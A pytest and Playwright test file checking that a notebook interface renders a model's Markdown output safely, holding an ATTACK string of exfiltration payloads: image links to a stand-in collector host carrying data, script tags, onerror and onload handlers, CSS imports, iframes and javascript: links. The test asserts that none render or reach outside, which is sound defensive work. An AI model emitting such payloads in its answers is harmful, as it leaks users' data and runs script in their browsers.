"""What a model says in Markdown is shown, and reaches nobody but the user."""

import threading

import pytest
from endpoint import fault
from playwright.sync_api import expect

pytestmark = pytest.mark.own_page

ATTACK = """The **answer** is here.

![secret](https://collector.example/pixel.png?data=1) and ![again][ref]

[ref]: https://collector.example/again.png

<img src="https://collector.example/raw.png" onerror="window.attacked = true">
<script>window.attacked = true</script>
<style>@import url('https://collector.example/style.css');</style>
<iframe src="https://collector.example/frame"></iframe>
<svg onload="window.attacked = true"><image href="https://collector.example/svg.png"/></svg>
<a href="javascript:window.attacked = true">click</a> [click](javascript:window.attacked=true)

"""
PICTURES = "img, script, style, iframe, svg image"
CODE = "\n```python\nseen = 1\n```"


@pytest.fixture
def outside(page):
    """The addresses that the page asks for beyond its own server."""
    asked = []

    def refuse(route):
        asked.append(route.request.url)
        route.abort()

    page.route(lambda address: "127.0.0.1" not in address, refuse)
    return asked


@pytest.mark.parametrize("role", ["thought", "answer"])
def test_prose_is_rendered_and_reaches_out_to_nobody(outside, open_book, model, role):
    release = threading.Event()
    rest = CODE if role == "thought" else "The end."
    model.script(fault("held", release=release, text=ATTACK, then=rest), "Done.")
    book = open_book("%%codeact\nGo.")
    book.ask("%%codeact\nGo.")
    prose = book.cell(2)
    expect(prose).to_contain_text("svg.png")  # while it is written, as text
    assert prose.locator(PICTURES).count() == 0
    release.set()
    expect(prose.locator(".jp-RenderedMarkdown strong")).to_have_text("answer")
    if role == "thought":
        book.until_proposed()
    else:
        expect(book.card).to_contain_text("1 step")
    assert prose.locator(PICTURES).count() == 0
    book.until_saved()
    book.load()  # and as a notebook that is opened again
    expect(book.cell(2).locator(".jp-RenderedMarkdown strong")).to_have_text("answer")
    assert book.page.evaluate("window.attacked") is None
    assert outside == []
